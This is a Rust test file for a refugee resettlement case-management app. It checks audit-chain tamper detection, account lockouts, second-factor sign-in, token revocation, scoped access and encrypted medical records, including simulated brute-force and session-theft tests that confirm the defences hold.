//! Access control, sign-in, the audit trail and data at rest, on SQLite and PostgreSQL.
use crate::common;
use resettle_app::{
    AnchorPolicy, App, AppError, Caller, ChainCheck, Fault, FixedClock, Keyring, Role, Security,
};
use resettle_domain::reception::PlaceKind;
use sqlx::Row;

use crate::common::{caller_of, keys, raw};

/// The demo's second-factor secret (README, "Signing in to the demo").
const DEMO_SECRET: &str = "RESETTLEDEMO2FAS3CRETFORNEWUSERS";
const DEMO_PASSWORD: &str = "resettle-demo-password";

async fn demo_app(url: &str) -> App {
    demo_app_and_clock(url).await.0
}

/// The demo app and the clock it reads, for tests that let time pass.
async fn demo_app_and_clock(url: &str) -> (App, std::sync::Arc<FixedClock>) {
    let clock = std::sync::Arc::new(FixedClock::on(resettle_testkit::TODAY));
    let app = common::open_with(url, &clock).await;
    app.load_demo(&common::demo(11, 200), false).await.unwrap();
    (app, clock)
}

/// A case with at least one medical record.
async fn case_with_medical(pool: &sqlx::AnyPool) -> String {
    sqlx::query(
        "SELECT c.case_number FROM cases c JOIN medical_records m ON m.case_id = c.id LIMIT 1",
    )
    .fetch_one(pool)
    .await
    .unwrap()
    .try_get(0)
    .unwrap()
}

/// The demo users' one-time code at the app's now.
fn code(app: &App) -> String {
    let secret = resettle_secure::totp::from_base32(DEMO_SECRET).unwrap();
    resettle_secure::totp::code(&secret, app.now().unix_timestamp() as u64)
}

#[tokio::test]
async fn the_audit_chain_verifies_and_names_the_first_edited_or_removed_entry() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        let n = app
            .list_cases(&op, &Default::default())
            .await
            .unwrap()
            .items[0]
            .case_number
            .clone();
        app.case(&op, &n).await.unwrap();
        assert!(matches!(
            app.verify_audit(&op).await.unwrap(),
            ChainCheck::Intact { entries, plain: 0, .. } if entries > 5
        ));
        let pool = raw(&db.url).await;
        sqlx::query("UPDATE audit_log SET actor = 'someone else' WHERE seq = 3")
            .execute(&pool)
            .await
            .unwrap();
        assert_eq!(
            app.verify_audit(&op).await.unwrap(),
            ChainCheck::Broken {
                seq: 3,
                fault: Fault::Edited
            },
            "{}",
            db.backend
        );
        // Removing the entry instead leaves a gap, named as well.
        sqlx::query("DELETE FROM audit_log WHERE seq = 3")
            .execute(&pool)
            .await
            .unwrap();
        match app.verify_audit(&op).await.unwrap() {
            ChainCheck::Broken { seq, .. } => assert_eq!(seq, 3, "{}", db.backend),
            other => panic!("a removed entry went unnoticed: {other:?}"),
        }
        pool.close().await;
    }
}

#[tokio::test]
async fn reads_writes_refusals_and_sign_ins_are_audited_with_special_fields() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let officer = app
            .login("case-officer", DEMO_PASSWORD, "10.0.0.1")
            .await
            .unwrap();
        let cookie = app
            .second_factor(&officer.cookie, &code(&app), "10.0.0.1")
            .await
            .unwrap();
        let caller = app.session(&cookie, "10.0.0.1").await.unwrap().caller;
        let n = app
            .list_cases(&caller, &Default::default())
            .await
            .unwrap()
            .items[0]
            .case_number
            .clone();
        app.case(&caller, &n).await.unwrap();
        let refused = app.medical_records(&caller, &n).await.unwrap_err();
        assert!(matches!(refused, AppError::Forbidden { .. }), "{refused}");
        // A lifecycle step appends its entry in its own transaction (Store::append_event).
        let waiting = app
            .list_cases(
                &caller,
                &resettle_app::cases::CaseQuery {
                    state: Some(resettle_domain::case::CaseState::DossierReview),
                    ..Default::default()
                },
            )
            .await
            .unwrap()
            .items[0]
            .clone();
        app.transition(
            &caller,
            &waiting.case_number,
            &resettle_app::cases::TransitionRequest {
                reason: "awaiting a document".into(),
                reason_code: Some("documents_missing".into()),
                ..resettle_app::cases::TransitionRequest::to(
                    resettle_domain::case::CaseState::Deferred,
                    waiting.version,
                )
            },
        )
        .await
        .unwrap();
        let _ = app
            .login("case-officer", "wrong password!!", "10.0.0.2")
            .await;
        let trail = app
            .audit_entries(&Caller::operator(), &Default::default())
            .await
            .unwrap();
        let has =
            |action: &str, outcome: &str, pred: &dyn Fn(&resettle_app::AuditRecord) -> bool| {
                trail
                    .iter()
                    .any(|e| e.action == action && e.outcome == outcome && pred(e))
            };
        assert!(has("read", "ok", &|e| e.entity_id == n
            && e.actor == "case-officer"
            && e.source == "10.0.0.1"
            && e.fields.contains("categories")));
        assert!(has("refused", "refused", &|e| e.entity == "medical_record"));
        assert!(has("write", "ok", &|e| e.entity == "case"
            && e.entity_id == waiting.case_number
            && e.actor == "case-officer"
            && e.source == "10.0.0.1"
            && e.detail == "dossier_review -> deferred"));
        assert!(has("login", "ok", &|e| e
            .detail
            .contains("second factor accepted")));
        assert!(has("login", "failed", &|e| e.source == "10.0.0.2"));
    }
}

#[tokio::test]
async fn five_wrong_passwords_lock_the_account_even_for_the_right_one() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        for _ in 0..5 {
            assert!(matches!(
                app.login("planner", "not the password", "t").await,
                Err(AppError::Unauthorized(_))
            ));
        }
        let locked = app.login("planner", DEMO_PASSWORD, "t").await.unwrap_err();
        assert!(
            matches!(locked, AppError::Unauthorized(ref m) if m.contains("locked")),
            "{locked}"
        );
        let trail = app
            .audit_entries(
                &Caller::operator(),
                &resettle_app::AuditQuery {
                    actor: Some("planner".into()),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        assert!(
            trail[0].detail.starts_with("account locked until"),
            "the right password was refused because of the lock: {:?}",
            trail[0]
        );
        assert!(trail.iter().any(|e| e.detail.contains("5 in a row")));
        // Unknown names get the same answer as known ones.
        let unknown = app.login("nobody", DEMO_PASSWORD, "t").await.unwrap_err();
        assert_eq!(unknown.to_string(), locked.to_string());
    }
}

#[tokio::test]
async fn sessions_end_when_idle_and_at_logout_and_need_the_second_factor() {
    for db in resettle_testkit::databases() {
        let (app, clock) = demo_app_and_clock(&db.url).await;
        // A session lives while used within the idle time-out, and ends once idle past it.
        let s = app.login("planner", DEMO_PASSWORD, "t").await.unwrap();
        clock.advance(time::Duration::minutes(29));
        assert!(app.session(&s.cookie, "t").await.is_ok(), "29 minutes idle");
        clock.advance(time::Duration::minutes(29));
        assert!(
            app.session(&s.cookie, "t").await.is_ok(),
            "used 29 minutes ago"
        );
        clock.advance(time::Duration::minutes(31));
        assert!(
            matches!(
                app.session(&s.cookie, "t").await,
                Err(AppError::Unauthorized(_))
            ),
            "31 minutes idle ends the session"
        );
        // A request within a minute of the last one recorded is not recorded: the idle
        // time-out counts from that one, so it may end a session up to a minute early.
        let s = app.login("planner", DEMO_PASSWORD, "t").await.unwrap();
        clock.advance(time::Duration::seconds(50));
        assert!(app.session(&s.cookie, "t").await.is_ok(), "50 seconds idle");
        clock.advance(time::Duration::seconds(29 * 60 + 20));
        assert!(
            matches!(
                app.session(&s.cookie, "t").await,
                Err(AppError::Unauthorized(_))
            ),
            "30 minutes and 10 seconds after the last request recorded"
        );
        // A planner (no second factor required by default) signs in and out.
        let s = app.login("planner", DEMO_PASSWORD, "t").await.unwrap();
        assert!(!s.needs_second_factor);
        let session = app.session(&s.cookie, "t").await.unwrap();
        app.logout(&s.cookie, &session.caller).await.unwrap();
        assert!(matches!(
            app.session(&s.cookie, "t").await,
            Err(AppError::Unauthorized(_))
        ));
        // An idle time-out of zero ends the session at its next request.
        let strict = app.clone().with_security(Security {
            idle: time::Duration::seconds(-1),
            ..Security::default()
        });
        let s = strict.login("planner", DEMO_PASSWORD, "t").await.unwrap();
        assert!(matches!(
            strict.session(&s.cookie, "t").await,
            Err(AppError::Unauthorized(_))
        ));
        assert!(
            app.session(&s.cookie, "t").await.is_err(),
            "a timed-out session stays ended"
        );
        // Which roles owe a second factor is configuration.
        let relaxed = app.clone().with_security(Security {
            second_factor_roles: vec![Role::Planner],
            ..Security::default()
        });
        assert!(
            !relaxed
                .login("case-officer", DEMO_PASSWORD, "t")
                .await
                .unwrap()
                .needs_second_factor
        );
        assert!(
            relaxed
                .login("planner", DEMO_PASSWORD, "t")
                .await
                .unwrap()
                .needs_second_factor
        );
        // A medical officer must give a code; a wrong one fails, a right one works once.
        let s = app
            .login("medical-officer", DEMO_PASSWORD, "t")
            .await
            .unwrap();
        assert!(s.needs_second_factor);
        assert!(
            app.session(&s.cookie, "t")
                .await
                .unwrap()
                .needs_second_factor
        );
        assert!(
            app.second_factor(&s.cookie, "000000", "t").await.is_err() || code(&app) == "000000"
        );
        let c = code(&app);
        let renewed = app.second_factor(&s.cookie, &c, "t").await.unwrap();
        assert!(
            !app.session(&renewed, "t")
                .await
                .unwrap()
                .needs_second_factor
        );
        let again = app
            .login("medical-officer", DEMO_PASSWORD, "t")
            .await
            .unwrap();
        assert!(
            app.second_factor(&again.cookie, &c, "t").await.is_err(),
            "a used code cannot be replayed"
        );
    }
}

#[tokio::test]
async fn tokens_expire_are_revoked_and_carry_only_their_roles() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        let expired = app
            .create_token(&op, "case-officer", None, Some(0))
            .await
            .unwrap();
        assert!(app.authenticate_token(&expired, "t").await.is_err());
        let live = app
            .create_token(&op, "case-officer", None, Some(1))
            .await
            .unwrap();
        assert_eq!(
            app.authenticate_token(&live, "t").await.unwrap().roles,
            [Role::CaseOfficer]
        );
        app.revoke_tokens(&op, "case-officer").await.unwrap();
        assert!(app.authenticate_token(&live, "t").await.is_err());
        let refused = app
            .create_token(&op, "planner", Some("case-officer"), None)
            .await
            .unwrap_err();
        assert!(refused.to_string().contains("does not hold"), "{refused}");
    }
}

/// "Our submissions" only ever narrows: a liaison's equal its scope, an agency officer's
/// are its own organisation's, and a caller of no organisation is told why.
#[tokio::test]
async fn ours_lists_only_the_caller_s_own_organisation_s_submissions() {
    use resettle_app::cases::CaseQuery;
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let numbers = |list: resettle_app::cases::CaseList| {
            list.items
                .into_iter()
                .map(|c| c.case_number)
                .collect::<Vec<_>>()
        };
        let all = CaseQuery {
            per_page: Some(500),
            ..Default::default()
        };
        let ours = CaseQuery {
            ours: Some(true),
            ..all.clone()
        };
        let liaison = caller_of(&app, "unhcr-liaison").await;
        let scoped = numbers(app.list_cases(&liaison, &all).await.unwrap());
        assert!(!scoped.is_empty(), "{}", db.backend);
        assert_eq!(
            numbers(app.list_cases(&liaison, &ours).await.unwrap()),
            scoped,
            "{}",
            db.backend
        );
        let officer = caller_of(&app, "case-officer").await;
        let pool = raw(&db.url).await;
        let own: i64 = sqlx::query("SELECT COUNT(*) FROM cases WHERE submitted_by = $1")
            .bind(officer.organisation.clone().unwrap())
            .fetch_one(&pool)
            .await
            .unwrap()
            .get(0);
        let listed = app.list_cases(&officer, &ours).await.unwrap();
        assert_eq!(listed.total, own, "{}", db.backend);
        assert!(
            app.list_cases(&officer, &all).await.unwrap().total > listed.total,
            "{}",
            db.backend
        );
        let overdue = CaseQuery {
            overdue: Some(true),
            ..ours.clone()
        };
        let e = app.list_cases(&officer, &overdue).await.unwrap_err();
        assert!(e.to_string().contains("ours"), "{e}");
        let e = app
            .list_cases(&Caller::operator(), &ours)
            .await
            .unwrap_err();
        assert!(
            matches!(&e, AppError::Refused(r) if r.field == "ours"
                && r.kind == resettle_domain::RefusalKind::NoOrganisation),
            "{e}"
        );
    }
}

#[tokio::test]
async fn scoped_roles_see_only_their_organisations_cases() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let op = Caller::operator();
        let all = app
            .list_cases(
                &op,
                &resettle_app::cases::CaseQuery {
                    per_page: Some(500),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        let liaison = caller_of(&app, "unhcr-liaison").await;
        let office = liaison.organisation.clone().unwrap();
        let mine = app
            .list_cases(
                &liaison,
                &resettle_app::cases::CaseQuery {
                    per_page: Some(500),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        assert!(mine.total > 0 && mine.total < all.total, "{}", db.backend);
        let country = office.trim_start_matches("UNHCR ");
        assert!(
            mine.items
                .iter()
                .all(|c| c.country_of_asylum.as_deref() == Some(country))
        );
        let other = all
            .items
            .iter()
            .find(|c| c.country_of_asylum.as_deref() != Some(country))
            .unwrap();
        assert!(matches!(
            app.case(&liaison, &other.case_number).await,
            Err(AppError::Refused(r)) if r.kind.as_str() == "no_such_case"
        ));
        let shown = app
            .case(&liaison, &mine.items[0].case_number)
            .await
            .unwrap();
        assert!(shown.get("categories").is_some() && shown.get("reunification").is_none());
    }
}

/// A medical officer's entry: a condition, no care needs, consent given.
fn entry(condition: &str, fit_to_travel: Option<bool>) -> resettle_domain::case::MedicalEntry {
    resettle_domain::case::MedicalEntry {
        condition: condition.into(),
        care_needs: vec![],
        consent_to_share: true,
        fit_to_travel,
    }
}

/// The stored (sealed) medical rows of a case, as an attacker with the database sees them:
/// a write seals afresh, so any write, even of the same values, changes them.
async fn sealed_rows(
    pool: &sqlx::AnyPool,
    number: &str,
) -> Vec<(i64, String, String, i64, Option<String>)> {
    sqlx::query(
        "SELECT m.member_no, m.condition, m.care_needs, CAST(m.consent_to_share AS INTEGER), \
                m.fit_to_travel \
           FROM medical_records m JOIN cases c ON c.id = m.case_id \
          WHERE c.case_number = $1 ORDER BY m.member_no",
    )
    .bind(number.to_string())
    .fetch_all(pool)
    .await
    .unwrap()
    .iter()
    .map(|r| {
        (
            r.try_get(0).unwrap(),
            r.try_get(1).unwrap(),
            r.try_get(2).unwrap(),
            r.try_get(3).unwrap(),
            r.try_get(4).unwrap(),
        )
    })
    .collect()
}

#[tokio::test]
async fn a_medical_officer_writes_the_record_and_the_write_is_audited_with_its_fields() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let pool = raw(&db.url).await;
        let medical = caller_of(&app, "medical-officer").await;
        let n = case_with_medical(&pool).await;
        let members = app.case(&medical, &n).await.unwrap()["members"]
            .as_array()
            .unwrap()
            .len() as u32;
        let recorded = app.medical_records(&medical, &n).await.unwrap();
        // A member without a record gets one; a member with one has it replaced.
        let new_member = (1..=members).find(|m| recorded.iter().all(|r| r.member_no != *m));
        let mut written = Vec::new();
        for member_no in new_member.into_iter().chain([recorded[0].member_no]) {
            let entry = resettle_domain::case::MedicalEntry {
                condition: format!("  Chronic asthma of member {member_no} "),
                care_needs: vec![
                    resettle_domain::case::CareNeed::RegularTreatment,
                    resettle_domain::case::CareNeed::MentalHealthSupport,
                ],
                consent_to_share: false,
                fit_to_travel: Some(true),
            };
            let record = app
                .write_medical_record(&medical, &n, member_no, &entry)
                .await
                .unwrap();
            assert_eq!(
                record.condition,
                format!("Chronic asthma of member {member_no}")
            );
            written.push(record);
        }
        let now = app.medical_records(&medical, &n).await.unwrap();
        for w in &written {
            assert!(now.contains(w), "{}: {w:?} not in {now:?}", db.backend);
        }
        // Reception sees the care needs (not the diagnosis) of the record just written.
        let reception = caller_of(&app, "reception-officer").await;
        let case = app.case(&reception, &n).await.unwrap();
        assert!(
            case["care_needs"]
                .as_array()
                .unwrap()
                .iter()
                .any(|c| c["member_no"] == written[0].member_no
                    && c["needs"]
                        == serde_json::json!(["mental_health_support", "regular_treatment"])),
            "{}: {case}",
            db.backend
        );
        let trail = app
            .audit_entries(&Caller::operator(), &Default::default())
            .await
            .unwrap();
        for w in &written {
            assert!(
                trail.iter().any(|e| e.action == "write"
                    && e.entity == "medical_record"
                    && e.entity_id == n
                    && e.actor == "medical-officer"
                    && e.fields == "condition,care_needs,consent_to_share,fit_to_travel"
                    && e.detail == format!("member {}", w.member_no)),
                "{}: the write of member {} is not in the trail",
                db.backend,
                w.member_no
            );
        }
        pool.close().await;
    }
}

#[tokio::test]
async fn attack_other_roles_cannot_write_a_medical_record_and_bad_entries_change_nothing() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let pool = raw(&db.url).await;
        let liaison = caller_of(&app, "unhcr-liaison").await;
        // A case the liaison may see, so the refusal is for the role, not the scope.
        let n = app
            .list_cases(&liaison, &Default::default())
            .await
            .unwrap()
            .items[0]
            .case_number
            .clone();
        let before = sealed_rows(&pool, &n).await;
        for user in ["case-officer", "unhcr-liaison", "reception-officer"] {
            let caller = caller_of(&app, user).await;
            let refused = app
                .write_medical_record(&caller, &n, 1, &entry("Invented diagnosis", Some(false)))
                .await
                .unwrap_err();
            assert!(
                matches!(refused, AppError::Forbidden { .. }),
                "{}: {user}: {refused}",
                db.backend
            );
            let trail = app
                .audit_entries(&Caller::operator(), &Default::default())
                .await
                .unwrap();
            assert!(
                trail.iter().any(|e| e.action == "refused"
                    && e.outcome == "refused"
                    && e.entity == "medical_record"
                    && e.entity_id == n
                    && e.actor == user
                    && e.detail.contains("WriteMedical")),
                "{}: the refusal of {user} is not in the trail",
                db.backend
            );
        }
        assert_eq!(
            sealed_rows(&pool, &n).await,
            before,
            "{}: a refused write changed the record",
            db.backend
        );
        // A medical officer's entry refused on its content changes nothing either.
        let medical = caller_of(&app, "medical-officer").await;
        for (member_no, bad, field, kind) in [
            (99, entry("Asthma", None), "member_no", "not_in_list"),
            (1, entry(" \t ", None), "condition", "missing"),
            (1, entry(&"x".repeat(2001), None), "condition", "too_long"),
        ] {
            match app
                .write_medical_record(&medical, &n, member_no, &bad)
                .await
            {
                Err(AppError::Refused(r)) => assert_eq!(
                    (r.field.as_ref(), r.kind.as_str()),
                    (field, kind),
                    "{}",
                    db.backend
                ),
                other => panic!("{}: {bad:?} was not refused: {other:?}", db.backend),
            }
        }
        assert_eq!(
            sealed_rows(&pool, &n).await,
            before,
            "{}: a refused entry changed the record",
            db.backend
        );
        pool.close().await;
    }
}

#[tokio::test]
async fn medical_records_are_sealed_at_rest_and_survive_key_rotation() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let pool = raw(&db.url).await;
        let rows = sqlx::query("SELECT condition, care_needs FROM medical_records")
            .fetch_all(&pool)
            .await
            .unwrap();
        assert!(!rows.is_empty());
        for r in &rows {
            let condition: String = r.try_get(0).unwrap();
            let needs: String = r.try_get(1).unwrap();
            assert!(
                condition.starts_with("enc:v1:test:") && needs.starts_with("enc:v1:test:"),
                "{condition}"
            );
        }
        let medical = caller_of(&app, "medical-officer").await;
        let n: String = case_with_medical(&pool).await;
        // An assessment written by a medical officer is sealed as well, and re-sealed.
        app.write_medical_record(&medical, &n, 1, &entry("Asthma", Some(false)))
            .await
            .unwrap();
        let fit: String = sqlx::query_scalar(
            "SELECT m.fit_to_travel FROM medical_records m JOIN cases c ON c.id = m.case_id \
             WHERE c.case_number = $1 AND m.member_no = 1",
        )
        .bind(&n)
        .fetch_one(&pool)
        .await
        .unwrap();
        assert!(fit.starts_with("enc:v1:test:"), "{fit}");
        let before = app.medical_records(&medical, &n).await.unwrap();
        assert!(!before[0].condition.is_empty());
        assert_eq!(before[0].fit_to_travel, Some(false));
        let new = Keyring::generate_key("k2").unwrap();
        let rotated = App::open(&db.url).await.unwrap().with_keys(
            Keyring::parse(&format!("{new},{}", resettle_testkit::TEST_DATA_KEY)).unwrap(),
        );
        let resealed = rotated.reseal(&Caller::operator()).await.unwrap();
        // Every condition and care needs, and at least the one fit to travel written.
        assert!(resealed > 2 * rows.len() as u64, "{resealed}");
        let only_new = App::open(&db.url)
            .await
            .unwrap()
            .with_keys(Keyring::parse(&new).unwrap());
        assert_eq!(
            only_new.medical_records(&medical, &n).await.unwrap(),
            before
        );
        assert!(
            app.medical_records(&medical, &n).await.is_err(),
            "the old key alone no longer opens the records"
        );
        pool.close().await;
    }
}

#[tokio::test]
async fn the_subject_access_export_holds_everything_and_is_audited() {
    let db = resettle_testkit::sqlite();
    let app = demo_app(&db.url).await;
    let officer = caller_of(&app, "case-officer").await;
    let pool = raw(&db.url).await;
    let n: String = case_with_medical(&pool).await;
    let export = app.subject_export(&officer, &n).await.unwrap();
    assert!(!export.medical_records.is_empty() && !export.events.is_empty());
    assert_eq!(export.case.case_number, n);
    assert_eq!(
        export.programme_name,
        "Belgian resettlement programme (demo)"
    );
    let trail = app
        .audit_entries(
            &Caller::operator(),
            &resettle_app::AuditQuery {
                entity_id: Some(n.clone()),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert!(
        trail
            .iter()
            .any(|e| e.action == "export" && e.fields.contains("condition"))
    );
}

/// How many audit entries of `username`'s sign-ins have a detail starting with `prefix`.
async fn sign_in_entries(url: &str, username: &str, prefix: &str) -> i64 {
    let pool = raw(url).await;
    let n: i64 = sqlx::query(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'login' AND entity_id = $1 \
         AND detail LIKE $2",
    )
    .bind(username)
    .bind(format!("{prefix}%"))
    .fetch_one(&pool)
    .await
    .unwrap()
    .try_get(0)
    .unwrap();
    pool.close().await;
    n
}

/// A six-digit code that is none of the three the demo secret accepts at the app's now.
fn wrong_code(app: &App) -> String {
    let secret = resettle_secure::totp::from_base32(DEMO_SECRET).unwrap();
    let now = app.now().unix_timestamp() as u64;
    let valid: Vec<String> = [now - 30, now, now + 30]
        .iter()
        .map(|&t| resettle_secure::totp::code(&secret, t))
        .collect();
    (0..)
        .map(|i| format!("{:06}", 123_456 + i))
        .find(|c| !valid.contains(c))
        .unwrap()
}

/// Attack: a right password, then wrong codes, again and again. Before, the password step
/// reset the count and the code step never looked at the lock: six rounds of four codes
/// locked nothing. Now codes are counted apart, three lock the account, the lock holds at
/// both steps, and a right code during the lock does not get in.
#[tokio::test]
async fn guessing_the_second_factor_locks_the_account_at_every_step() {
    for db in resettle_testkit::databases() {
        let (app, clock) = demo_app_and_clock(&db.url).await;
        let user = "medical-officer";
        let wrong = wrong_code(&app);
        let mut codes_checked = 0;
        for _round in 0..6 {
            let Ok(s) = app.login(user, DEMO_PASSWORD, "attacker").await else {
                continue;
            };
            for _ in 0..4 {
                if app
                    .second_factor(&s.cookie, &wrong, "attacker")
                    .await
                    .is_err()
                {
                    codes_checked += 1;
                }
            }
        }
        assert!(codes_checked >= 3, "{}: the attack ran", db.backend);
        assert_eq!(
            sign_in_entries(&db.url, user, "wrong or reused one-time password").await,
            resettle_app::access::session::FAILED_CODES_BEFORE_LOCK,
            "{}: only three codes were ever checked",
            db.backend
        );
        assert!(
            app.login(user, DEMO_PASSWORD, "owner").await.is_err(),
            "{}: the lock holds at the password step",
            db.backend
        );
        // Five minutes on, the owner signs in with a right code; the count starts again.
        clock.advance(time::Duration::minutes(6));
        let s = app.login(user, DEMO_PASSWORD, "owner").await.unwrap();
        let cookie = app
            .second_factor(&s.cookie, &code(&app), "owner")
            .await
            .unwrap();
        assert!(app.session(&cookie, "owner").await.is_ok());
    }
}

/// Attack: a burst of wrong passwords sent at once. Before, the check and the count were
/// not atomic, so every guess in the burst was checked before any lock was set. Now an
/// attempt is counted before it is checked: at most five guesses are ever checked.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn parallel_password_guesses_cannot_pass_the_lock() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let user = "planner";
        let guesses: Vec<_> = (0..24)
            .map(|i| {
                let app = app.clone();
                tokio::spawn(async move {
                    app.login(user, &format!("guess number {i} of many"), "attacker")
                        .await
                        .is_err()
                })
            })
            .collect();
        for g in guesses {
            assert!(g.await.unwrap(), "a wrong password was accepted");
        }
        let checked = sign_in_entries(&db.url, user, "wrong password").await;
        assert!(
            (1..=resettle_app::access::session::FAILURES_BEFORE_LOCK).contains(&checked),
            "{}: {checked} of 24 parallel guesses were checked",
            db.backend
        );
        assert!(
            app.login(user, DEMO_PASSWORD, "owner").await.is_err(),
            "{}: the account is locked after the burst",
            db.backend
        );
    }
}

/// Attack on the design: a user holding two limited roles got the first role's scope only.
/// A municipality that is also the liaison office (roles in that order) saw none of the
/// office's submissions; the scopes now unite.
#[tokio::test]
async fn the_scopes_of_two_limited_roles_unite() {
    for db in resettle_testkit::databases() {
        let app = demo_app(&db.url).await;
        let liaison = caller_of(&app, "unhcr-liaison").await;
        let all = resettle_app::cases::CaseQuery {
            per_page: Some(500),
            ..Default::default()
        };
        let office = app.list_cases(&liaison, &all).await.unwrap();
        assert!(office.total > 0, "{}", db.backend);
        let both = Caller {
            roles: vec![Role::Municipality, Role::UnhcrLiaison],
            ..liaison.clone()
        };
        let seen = app.list_cases(&both, &all).await.unwrap();
        assert_eq!(
            seen.total, office.total,
            "{}: the liaison's cases are seen whatever the order of the roles",
            db.backend
        );
        let n = &office.items[0].case_number;
        assert!(app.case(&both, n).await.is_ok(), "{}: {n}", db.backend);
    }
}

/// Attack: 2,000 requests with a bad token wrote 2,000 audit entries in a second and a
/// half. Now an address's bad tokens are recorded up to the allowance, then once as
/// throttled, then refused at once (429 with the seconds to wait) and unrecorded, until the
/// window ends.
#[tokio::test]
async fn bad_tokens_cannot_flood_the_audit_trail() {
    for db in resettle_testkit::databases() {
        let (app, clock) = demo_app_and_clock(&db.url).await;
        let pool = raw(&db.url).await;
        let entries = || async {
            let n: i64 = sqlx::query("SELECT COUNT(*) FROM audit_log WHERE source = '6.6.6.6'")
                .fetch_one(&pool)
                .await
                .unwrap()
                .try_get(0)
                .unwrap();
            n
        };
        let mut throttled = 0;
        for i in 0..200 {
            match app
                .authenticate_token(&format!("rst_not-a-token-{i}"), "6.6.6.6")
                .await
            {
                Err(AppError::Unauthorized(_)) => {}
                Err(AppError::TooManyRequests { retry_after, .. }) => {
                    assert!((1..=60).contains(&retry_after));
                    throttled += 1;
                }
                other => panic!("{other:?}"),
            }
        }
        assert_eq!(
            throttled, 190,
            "{}: all past the tenth are refused",
            db.backend
        );
        assert_eq!(
            entries().await,
            11,
            "{}: ten failures and one line saying the rest were throttled",
            db.backend
        );
        assert!(
            app.authenticate_token("rst_x", "192.0.2.1").await.is_err() && entries().await == 11,
            "another address is not held back"
        );
        clock.advance(time::Duration::minutes(1));
        assert!(matches!(
            app.authenticate_token("rst_again", "6.6.6.6").await,
            Err(AppError::Unauthorized(_))
        ));
        assert_eq!(entries().await, 12, "{}: a new window", db.backend);
        pool.close().await;
    }
}

/// A user signed in on a session and holding a token, as a thief who took both would.
async fn session_and_token(app: &App, user: &str, password: &str) -> (String, String) {
    let s = app.login(user, password, "thief").await.unwrap();
    let token = app
        .create_token(&Caller::operator(), user, None, None)
        .await
        .unwrap();
    (s.cookie, token)
}

/// Asserts that neither the cookie nor the token opens anything any more.
async fn assert_cut_off(app: &App, (cookie, token): &(String, String), after: &str) {
    assert!(
        app.session(cookie, "thief").await.is_err(),
        "the session outlived {after}"
    );
    assert!(
        app.authenticate_token(token, "thief").await.is_err(),
        "the token outlived {after}"
    );
}

/// Attack: a thief holds a user's session cookie and API token; the administrator resets
/// the password after the theft, or moves the user to another role, or disables the
/// account. Before, the cookie and the token went on working after a reset (and a role
/// change had no command: only SQL). Now each change ends every session and revokes every
/// token of the user in the change's own transaction, and the trail says how many.
#[tokio::test]
async fn a_reset_role_change_or_disable_ends_every_session_and_token() {
    for db in resettle_testkit::databases() {
        // Password only, so that one clock tick allows any number of sign-ins.
        let app = demo_app(&db.url).await.with_security(Security {
            second_factor_roles: Vec::new(),
            ..Security::default()
        });
        let op = Caller::operator();
        let user = "case-officer";
        let stolen = session_and_token(&app, user, DEMO_PASSWORD).await;
        app.reset_password(&op, user, "a brand new passphrase")
            .await
            .unwrap();
        assert_cut_off(&app, &stolen, "a password reset").await;
        let stolen = session_and_token(&app, user, "a brand new passphrase").await;
        app.change_roles(&op, user, "reception-officer")
            .await
            .unwrap();
        assert_cut_off(&app, &stolen, "a role change").await;
        let fresh = session_and_token(&app, user, "a brand new passphrase").await;
        assert_eq!(
            app.session(&fresh.0, "t").await.unwrap().caller.roles,
            [Role::ReceptionOfficer],
            "{}: a new sign-in carries the new roles",
            db.backend
        );
        app.disable_user(&op, user).await.unwrap();
        assert_cut_off(&app, &fresh, "disabling").await;
        let pool = raw(&db.url).await;
        let live: i64 = sqlx::query(
            "SELECT (SELECT COUNT(*) FROM sessions s JOIN users u ON u.id = s.user_id \
                     WHERE u.username = $1 AND s.ended_at IS NULL) \
                  + (SELECT COUNT(*) FROM api_tokens t JOIN users u ON u.id = t.user_id \
                     WHERE u.username = $1 AND t.revoked_at IS NULL)",
        )
        .bind(user)
        .fetch_one(&pool)
        .await
        .unwrap()
        .try_get(0)
        .unwrap();
        assert_eq!(live, 0, "{}: nothing revives on re-enabling", db.backend);
        assert!(
            app.login(user, "a brand new passphrase", "t")
                .await
                .is_err(),
            "{}: a disabled user cannot sign in",
            db.backend
        );
        app.enable_user(&op, user).await.unwrap();
        let revived: i64 = sqlx::query(
            "SELECT COUNT(*) FROM sessions s JOIN users u ON u.id = s.user_id \
             WHERE u.username = $1 AND s.ended_at IS NULL",
        )
        .bind(user)
        .fetch_one(&pool)
        .await
        .unwrap()
        .try_get(0)
        .unwrap();
        assert_eq!(revived, 0, "{}: re-enabling revives no session", db.backend);
        assert!(
            app.session(&fresh.0, "t").await.is_err(),
            "{}: the cookie from before stays dead",
            db.backend
        );
        app.login(user, "a brand new passphrase", "t")
            .await
            .unwrap_or_else(|e| panic!("{}: re-enabled, yet refused: {e}", db.backend));
        let details: Vec<String> = sqlx::query(
            "SELECT detail FROM audit_log WHERE entity = 'user' AND entity_id = $1 \
             AND action = 'write' AND detail NOT LIKE 'added%' ORDER BY seq",
        )
        .bind(user)
        .fetch_all(&pool)
        .await
        .unwrap()
        .iter()
        .map(|r| r.try_get(0).unwrap())
        .collect();
        assert_eq!(
            details,
            [
                "password reset; 1 session(s) ended, 1 token(s) revoked",
                "roles set to reception-officer; 1 session(s) ended, 1 token(s) revoked",
                "disabled; 1 session(s) ended, 1 token(s) revoked",
                "re-enabled; 0 session(s) ended, 0 token(s) revoked",
            ],
            "{}",
            db.backend
        );
        pool.close().await;
    }
}

/// A script trying passwords from one address is held to twenty attempts a minute; a
/// person at another address is not held back.
#[tokio::test]
